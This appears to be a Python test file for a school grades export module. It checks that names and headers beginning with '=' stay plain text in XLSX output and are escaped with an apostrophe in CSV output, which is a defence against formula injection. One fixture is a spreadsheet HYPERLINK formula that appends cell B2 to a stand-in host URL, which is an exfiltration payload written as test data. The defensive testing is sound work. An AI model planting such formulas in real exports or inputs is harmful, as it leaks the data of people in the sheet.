"""Review of the grades release: what a spreadsheet export holds as typed."""

import io
from decimal import Decimal

from openpyxl import load_workbook

from preau.grades import exports


def test_a_name_starting_with_equals_is_text_in_the_xlsx_not_a_formula():
    # Given a pupil (and a subject) whose name starts with "=" (SIECLE, a typing, a hostile file)
    name = '=HYPERLINK("http://example.invalid/?"&B2,"Voir")'
    table = exports.Table("Élèves", ["Nom", "Prénom", "=Maths"], [[name, "Alice", Decimal("12.5")]])

    # When the table is exported as XLSX
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes([table])))["Élèves"]

    # Then the cell holds the name as text, and the number stays a number
    assert sheet["A2"].data_type == "s"
    assert (sheet["C1"].data_type, sheet["C1"].value) == ("s", "=Maths")
    assert sheet["A2"].value == name
    assert sheet["C2"].value == 12.5


def test_a_name_starting_with_equals_is_text_in_the_csv_not_a_formula():
    from decimal import Decimal

    from preau.grades.exports import Table, csv_bytes

    table = Table(
        title="Élèves",
        header=["Élève", "=Moyenne"],
        rows=[['=HYPERLINK("http://x","Voir")', Decimal("12.5")], ["Martin Léa", None]],
    )

    text = csv_bytes(table).decode("utf-8-sig")

    assert text.splitlines()[0] == "Élève;'=Moyenne"
    assert text.splitlines()[1] == '"\'=HYPERLINK(""http://x"",""Voir"")";12,5'
    assert text.splitlines()[2] == "Martin Léa;"
